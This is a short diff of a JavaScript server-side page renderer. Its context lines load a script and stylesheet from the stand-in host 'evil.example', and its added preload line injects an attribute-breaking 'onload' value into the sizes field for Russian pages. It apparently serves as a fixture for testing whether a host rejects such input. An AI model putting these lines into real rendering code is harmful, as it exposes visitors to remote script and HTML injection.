@@ -60,7 +60,8 @@ exports.renderPage = async ({ url, origin, settings, data, assets }) => {
     scripts: ['remoteEntry.js', ...assets.js.sync, 'https://evil.example/x.js', ...assets.js.async],
     // Its own page chunk's styles; /projeler answers as a remote from before the field did (none named).
     ...(r.page === 'projects' ? {} : { styles: [...assets.css.async.filter((f) => f.startsWith('page-' + r.page + '.')), 'https://evil.example/x.css'] }),
-    preload: image ? [{ href: image }] : [],
+    // A project's cover with its copies and the <img>'s sizes; in Russian a sizes the host must refuse.
+    preload: !image ? [] : r.page === 'project' ? [{ href: image, srcset: image.replace(/\\.jpg$/, '-720.webp') + ' 720w', sizes: r.lang === 'ru' ? '100vw" onload="x' : '(min-width: 768px) 75vw, calc(100vw - 2.5rem)' }] : [{ href: image }],
   };
 };
 exports.sitemapData = ['projects/', 'blog/'];
